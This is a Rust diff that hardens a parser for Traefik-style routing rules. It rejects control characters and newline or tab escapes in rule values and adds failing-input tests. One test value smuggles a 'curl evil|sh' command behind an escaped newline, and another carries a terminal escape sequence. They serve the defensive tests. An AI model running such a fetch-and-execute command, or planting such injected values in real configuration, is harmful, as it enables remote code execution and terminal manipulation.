@@ -6,6 +6,8 @@ use std::str::Chars;
 /// Parentheses and negations within one another; Traefik's own rules have two or three.
 const DEEPEST: usize = 64;
 
+const CONTROL: &str = "a value holds a control character";
+
 /// A rule in its parts.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Expr {
@@ -86,6 +88,14 @@ fn twice(chars: &mut Peekable<Chars>, sign: char, token: Token) -> Result<Token,
     }
 }
 
+/// A value ends up on screens, in files and in the clipboard: a control character is in no address, however it was escaped.
+fn plain(c: char) -> Result<char, String> {
+    if c.is_control() {
+        return Err(CONTROL.to_owned());
+    }
+    Ok(c)
+}
+
 /// Between back quotes nothing is escaped.
 fn raw(chars: &mut Peekable<Chars>) -> Result<String, String> {
     chars.next();
@@ -94,7 +104,7 @@ fn raw(chars: &mut Peekable<Chars>) -> Result<String, String> {
         if c == '`' {
             return Ok(text);
         }
-        text.push(c);
+        text.push(plain(c)?);
     }
     Err("a back quote is not closed".to_owned())
 }
@@ -108,11 +118,10 @@ fn quoted(chars: &mut Peekable<Chars>) -> Result<String, String> {
             '"' => return Ok(text),
             '\\' => match chars.next() {
                 Some(c @ ('\\' | '"')) => text.push(c),
-                Some('t') => text.push('\t'),
-                Some('n') => text.push('\n'),
+                Some('t' | 'n') => return Err(CONTROL.to_owned()),
                 _ => return Err("an escape that Go does not know".to_owned()),
             },
-            c => text.push(c),
+            c => text.push(plain(c)?),
         }
     }
     Err("a double quote is not closed".to_owned())
@@ -232,6 +241,10 @@ mod tests {
             "Host(`a`,)",
             "&& Host(`a`)",
             "Host(\"a)",
+            "Host(\"a\\ncurl evil|sh\\n\")",
+            "Host(\"a\\tb\")",
+            "Host(\"a\nb\")",
+            "Host(`a\u{9b}2Jb`)",
         ] {
             assert!(parse(bad).is_err(), "{bad}");
         }
